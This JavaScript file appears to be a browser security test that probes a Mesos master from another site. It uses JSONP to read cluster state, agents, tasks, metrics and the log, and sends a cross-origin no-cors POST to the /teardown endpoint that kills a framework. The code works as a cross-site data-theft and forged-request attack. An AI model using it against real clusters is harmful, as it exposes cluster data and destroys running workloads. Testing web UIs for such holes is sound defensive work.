// Reads the master as Mesos' web UI does, by scripts that call a function, and tries what no page of another site should do.
const query = new URLSearchParams(location.search);

let calls = 0;

function jsonp(url) {
  return new Promise((resolve) => {
    const script = document.createElement('script');
    const name = `callback${calls++}`;
    window[name] = resolve;
    script.onerror = () => resolve('no answer');
    script.src = `${url}${url.includes('?') ? '&' : '?'}jsonp=${name}`;
    document.head.append(script);
  });
}

function send(url, body) {
  return fetch(url, { method: 'POST', mode: 'no-cors', body }).then(
    ({ type, status }) => `${type} ${status}`,
    () => 'refused by the browser',
  );
}

async function read() {
  const master = `//${query.get('master')}`;
  const [state, slaves, frameworks, roles, metrics, log] = await Promise.all([
    jsonp(`${master}/master/state`),
    jsonp(`${master}/master/slaves`),
    jsonp(`${master}/frameworks`),
    jsonp(`${master}/master/roles`),
    jsonp(`${master}/metrics/snapshot`),
    jsonp(`${master}/files/read?path=/master/log&offset=0&length=1`),
  ]);
  const teardown = new URLSearchParams({ frameworkId: query.get('framework') });
  return {
    slaves: slaves.slaves.map(({ hostname }) => hostname).sort(),
    frameworks: frameworks.frameworks.map(({ name }) => name),
    tasks: state.frameworks.flatMap(({ tasks }) => tasks.map(({ id, state: taskState }) => `${id} ${taskState}`)),
    roles: roles.roles.map(({ name }) => name),
    running: metrics['master/tasks_running'],
    log: log.offset,
    nothing: await jsonp(`${master}/nope`),
    teardown: await send(`${master}/teardown`, teardown),
  };
}

read().then(
  (found) => (document.getElementById('read').textContent = encodeURIComponent(JSON.stringify(found))),
  (error) => (document.getElementById('read').textContent = encodeURIComponent(JSON.stringify(String(error)))),
);
